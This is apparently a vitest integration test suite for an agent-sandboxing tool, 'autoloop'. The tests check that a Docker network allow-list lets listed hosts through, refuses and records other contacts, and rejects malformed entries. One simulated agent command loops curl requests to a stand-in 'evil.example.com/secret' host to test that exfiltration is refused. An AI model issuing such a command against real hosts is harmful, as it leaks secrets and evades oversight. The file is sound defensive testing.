import { beforeAll, describe, expect, it } from 'vitest';
import { useDocker } from '../support/docker-daemon.js';
import { eventsOf, runIds } from '../support/journal.js';
import { type PackageServer, packageServer } from '../support/package-server.js';
import { leftovers } from '../support/run-leftovers.js';
import { autoloop, git } from '../support/run-program.js';
import { rightPatch, sampleOrder, sampleRepository, writeFiles } from '../support/sample.js';
import { rightDeed, shellAgents } from '../support/shell-agents.js';
import { temporaryForAll } from '../support/temporary.js';
import { enginesWith } from '../support/thorough.js';

useDocker();
const folder = temporaryForAll();
let server: PackageServer;
beforeAll(async () => {
  server = await packageServer(await folder);
});

/** Measured with a dependency that Git does not hold, and where no proxy is. */
const order = sampleOrder
  .replace('  - { id: unit, run: sh test/unit/sub.sh, timeout: 30 }\n', '')
  .replace('proved_by: [unit]', 'proved_by: [acceptance]')
  .replace(
    'sh test/acceptance/add.sh',
    `'sh test/acceptance/add.sh && node -p "require(\\"a-dependency\\")" && [ -z "$HTTPS_PROXY" ]'`,
  );

/** A repository whose project has a dependency, which its setup installs from the server; agents do `deeds`. */
async function project(sandbox: string, deeds: Record<string, string>): Promise<string> {
  const repo = await sampleRepository({
    recordings: {},
    agents: await shellAgents(deeds),
    config: `sandbox: { ${sandbox}, setup: [npm ci --cafile ca.pem] }`,
  });
  await writeFiles(repo, { ...server.project, '.autoloop/work-orders/add.md': order });
  await git(repo, 'add', '-A');
  await git(repo, 'commit', '-q', '-m', 'A dependency');
  return repo;
}

describe.each(enginesWith('docker'))('with %s', (engine) => {
  it('installs from a host of the list, and tells in journal and report who wanted out', async () => {
    const knock = 'for n in 1 2 3; do curl -s --cacert ca.pem https://evil.example.com/secret; done';
    const repo = await project(`engine: ${engine}, network: ${JSON.stringify(server.network)}`, {
      right: `[ "$(curl -s --cacert ca.pem ${server.url}/hello)" = 'hello from outside' ] || exit 1\n${knock}\n${rightDeed}`,
    });
    const run = await autoloop(repo, ['run', 'add']);
    expect(run.code, run.stderr + run.stdout).toBe(0);

    const { host, port } = server;
    const decided = (await eventsOf(repo)).flatMap((event) => (event.type === 'network.decided' ? [event.data] : []));
    const sum = (attempt: number | null, name: string) =>
      decided
        .filter((one) => one.attempt === attempt && one.host === name)
        .reduce((total, { times = 1 }) => total + times, 0);
    expect(decided.filter(({ allowed }) => allowed).every((one) => one.host === host && one.port === port)).toBe(true);
    expect(decided.filter(({ allowed }) => !allowed).map(({ host: asked }) => asked)).toEqual(
      Array(2).fill('evil.example.com'),
    );
    expect(sum(1, 'evil.example.com')).toBe(3);
    expect(sum(1, host)).toBeGreaterThanOrEqual(2);
    expect(sum(null, host)).toBeGreaterThanOrEqual(2);
    expect(server.requests.some((request) => request.includes('secret'))).toBe(false);

    const report = await autoloop(repo, ['report', 'add']);
    expect(report.stdout).toMatch(
      new RegExp(`\\| attempt 1 \\| \`${host}:${port}\` \\| let out \\| ${sum(1, host)} \\| on the list, at `),
    );
    expect(report.stdout).toContain('| attempt 1 | `evil.example.com:443` | refused | 3 | not on the list |');
    expect(report.stdout).toContain(`| setting up to measure | \`${host}:${port}\` | let out | ${sum(null, host)} |`);
    expect(report.stdout).toContain('A host that was let out is a way out');
    const { stdout } = await autoloop(repo, ['report', 'add', '--json']);
    expect(JSON.parse(stdout).contacts).toContainEqual({
      attempt: 1,
      host: 'evil.example.com',
      port: 443,
      allowed: false,
      times: 3,
      reasons: ['not on the list'],
    });
    expect(await leftovers(repo)).toEqual([]);
  });
});

it('installs nothing where no host is named, and says why', async () => {
  const repo = await project('engine: auto', { right: rightDeed });
  const before = server.requests.length;
  const run = await autoloop(repo, ['run', 'add']);
  expect(run.code, run.stdout).not.toBe(0);
  expect(run.stderr + run.stdout).toContain('npm ci');
  expect(server.requests.length).toBe(before);
  expect((await eventsOf(repo)).filter(({ type }) => type === 'network.decided')).toEqual([]);
});

it.each([
  ['[registry.example.com:443]', /The network refused it `api\.example\.com:443`: `sandbox\.network` has to name/],
  ['none', /\(transient\) and changed nothing: .*\. No host is open to it: `sandbox\.network` has to name/],
])('an agent that gets no answer, with the network %s, is told what is closed to it', async (network, told) => {
  const ask = 'curl -sS https://api.example.com/ || { echo "fetch failed" >&2; exit 1; }';
  const agents = await shellAgents({ lonely: ask }, { lonely: 'retries: 0' });
  const repo = await sampleRepository({ recordings: {}, agents, config: `sandbox: { network: ${network} }` });
  const run = await autoloop(repo, ['run', 'add']);
  expect(run.code, run.stdout).toBe(1);
  expect(run.stdout).toMatch(told);
});

it.each([
  ['"10.0.0.5:443"', 'name the host beside it'],
  ['"localhost:80"', 'must be 1024 or above'],
  ['"2130706433:443"', 'neither a host name'],
])('a list with %s is refused before anything begins', async (entry, why) => {
  const repo = await sampleRepository({
    recordings: { right: { '1.patch': rightPatch } },
    config: `sandbox: { network: [${entry}] }`,
  });
  const run = await autoloop(repo, ['run', 'add']);
  expect(run.code).toBe(2);
  expect(run.stderr).toContain(why);
  expect(await runIds(repo)).toEqual([]);
});

it('`check` says what a host looks like', async () => {
  const repo = await sampleRepository({
    recordings: {},
    config: 'sandbox: { network: ["*.example.com:443", "https://api.example.com", "[fd00::1]:443", "a.example:443"] }',
  });
  const { code, stdout } = await autoloop(repo, ['check']);
  expect(code).toBe(1);
  expect(stdout).toContain('`sandbox.network[0]` cannot be `*.example.com:443`');
  expect(stdout).toContain('`sandbox.network[1]` cannot be `https://api.example.com`');
  expect(stdout).not.toMatch(/sandbox\.network\[[23]]/);
  expect(stdout).toContain('No wildcard, no URL');
});
